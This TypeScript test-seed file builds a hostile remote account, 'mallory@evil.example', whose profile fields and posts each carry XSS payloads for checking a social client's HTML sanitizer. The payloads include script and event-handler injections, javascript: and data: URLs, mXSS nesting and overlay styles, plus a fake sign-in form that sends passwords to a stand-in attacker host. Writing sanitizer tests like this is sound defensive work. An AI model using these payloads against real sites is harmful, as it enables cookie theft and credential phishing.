/**
 * mallory@evil.example: a remote account whose every text field carries an
 * attack payload, for the client's security tests. The payloads are inert
 * strings here; the demo never renders them. Everything from the federated
 * network is untrusted: the client renders it only through its sanitizer.
 */
import { createRandom, timeUuid } from "../store/ids.ts";
import { BASE_TOKEN, type AccountRecord, type StatusRecord } from "../store/records.ts";
import type { SeedBuilder } from "./builder.ts";
import type { Store } from "../store/store.ts";

const HOST = "evil.example";
const ACTOR = `https://${HOST}/users/mallory`;

/** A custom emoji entity whose image URL is a script URL. */
const EVIL_EMOJI = { shortcode: "evil", url: "javascript:alert('emoji')" };

const PAYLOADS = {
  displayName: `<script>alert("name")</script>Mallory<img src=x onerror=alert('name')> :evil:`,
  bio: [
    `<p>Hi! <script>alert(document.cookie)</script>`,
    `<img src="x" onerror="alert('bio')">`,
    `<a href="javascript:alert('bio-link')">click me</a> `,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">data link</a> `,
    `<svg onload="alert('svg')"><circle r="10"></circle></svg>`,
    `<span style="position:fixed;inset:0;background:red;z-index:99999">overlay</span>`,
    `<iframe src="javascript:alert('iframe')"></iframe> :evil:</p>`,
  ].join(""),
  fieldName: `<b onmouseover="alert('field-name')">$XMR</b>`,
  fieldValue: `<a href="javascript:alert('field')">javascript link</a>`,
  dataFieldValue: `<a href="data:text/html,<script>alert('data-field')</script>">data: link</a>`,
  styleFieldValue: `<span style="background:url(javascript:alert('style'))">styled</span>`,
  header: `https://evil.example/h.png");background:url("javascript:alert('header')`,
  paymentHref: "javascript:alert('payment')",
} as const;

/** Post bodies: each a different way to smuggle script or styles into HTML. */
const HOSTILE_POSTS: string[] = [
  `<p>Totally normal post <script>alert('post')</script> with a script tag.</p>`,
  `<p><img src="x" onerror="alert('img')"> broken image with onerror</p>`,
  `<p><a href="javascript:alert('link')">A javascript: link</a> and <a href="JaVaScRiPt:alert('case')">a mixed-case one</a> and <a href=" javascript:alert('space')">one with a space</a></p>`,
  `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgncG9zdC1kYXRhJyk8L3NjcmlwdD4=">data: URL link</a></p>`,
  `<p>Inline SVG: <svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-post')"><script>alert('svg-script')</script><circle r="5"></circle></svg></p>`,
  `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#f00;z-index:2147483647">Full-screen overlay via a style attribute</p><style>body{display:none}</style>`,
  `<p>Custom emoji with a script URL: :evil: and a fake mention <span class="h-card"><a class="u-url mention" href="javascript:alert('mention')">@<span>alice</span></a></span> and a fake tag <a class="hashtag" href="javascript:alert('tag')" rel="tag">#<span>news</span></a></p>`,
  `<form action="https://evil.example/steal" method="post"><p>Session expired, sign in again:</p><input type="password" name="password"><button type="submit">Sign in</button></form>`,
  `<p><iframe src="https://evil.example/frame"></iframe><object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')"><meta http-equiv="refresh" content="0;url=https://evil.example"></p>`,
  `<p>mXSS: <math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math> and <noscript><p title="</noscript><img src=x onerror=alert('noscript')>">x</p></noscript></p>`,
  `<p>Escaped text must stay text: &lt;script&gt;alert('escaped')&lt;/script&gt; &amp; &lt;b&gt;not bold&lt;/b&gt;</p>`,
  `<p><a href="https://evil.example/" onclick="alert('onclick')" target="_self" rel="opener">a link with onclick and rel=opener</a> <img src="https://evil.example/track.gif" width="1" height="1" alt=""></p>`,
];

export function makeMallory(store: Store, now: number): AccountRecord {
  const createdAt = now - 12 * 86_400_000;
  const account: AccountRecord = {
    id: timeUuid(Date.UTC(2025, 0, 1) - 12 * 86_400_000, createRandom(666)),
    username: "mallory",
    domain: HOST,
    remoteActorId: ACTOR,
    remoteUrl: `https://${HOST}/@mallory`,
    acctOverride: null,
    displayName: PAYLOADS.displayName,
    note: PAYLOADS.bio,
    noteSource: PAYLOADS.bio,
    avatar: { kind: "identicon" },
    header: { kind: "url", url: PAYLOADS.header },
    locked: false,
    bot: false,
    mentionPolicy: "none",
    fields: [
      { name: PAYLOADS.fieldName, value: PAYLOADS.fieldValue, valueSource: PAYLOADS.fieldValue },
      { name: "Website", value: PAYLOADS.dataFieldValue, valueSource: PAYLOADS.dataFieldValue },
      {
        name: `"><img src=x onerror=alert('field-name-2')>`,
        value: PAYLOADS.styleFieldValue,
        valueSource: PAYLOADS.styleFieldValue,
      },
    ],
    identityProofs: [],
    paymentOptions: [
      { type: "link", name: "<img src=x onerror=alert('pay')>Donate", href: PAYLOADS.paymentHref },
    ],
    emojis: [],
    foreignEmojis: [EVIL_EMOJI],
    aliases: [],
    createdAt,
    user: null,
    group: null,
  };
  store.accounts.set(account.id, account);
  return account;
}

/** mallory's posts, spread over the last days; one mentions alice, one has a hostile attachment. */
export function seedHostilePosts(builder: SeedBuilder): StatusRecord[] {
  const posts = HOSTILE_POSTS.map((html, index) =>
    builder.post({
      by: "mallory@evil.example",
      age: 95 + index * 311,
      html,
      fixture: index === 0 ? "hostileScriptPost" : undefined,
    }),
  );
  for (const post of posts) {
    if (post.content.includes(":evil:")) post.foreignEmojis = [EVIL_EMOJI];
  }
  const mention = builder.post({
    by: "mallory@evil.example",
    age: 58,
    html: `<p><span class="h-card"><a class="u-url mention" href="${BASE_TOKEN}/users/alice">@<span>alice</span></a></span> check this out <a href="javascript:alert('mention-post')">https://totally-safe.example</a> <img src=x onerror=alert('mention-img')></p>`,
    media: [
      {
        file: "javascript:alert('attachment')",
        type: "unknown",
        mediaType: "application/octet-stream",
        description: `<img src=x onerror=alert('alt')>"><script>alert('alt')</script>`,
      },
      { scene: 7, description: `" onload="alert('alt-attr')` },
    ],
    fixture: "hostileMention",
  });
  mention.mentionIds = [builder.account("alice").id];
  builder.store.addNotification({
    recipientId: mention.mentionIds[0] ?? "",
    fromId: mention.accountId,
    type: "mention",
    statusId: mention.id,
    createdAt: mention.createdAt,
  });
  return [...posts, mention];
}
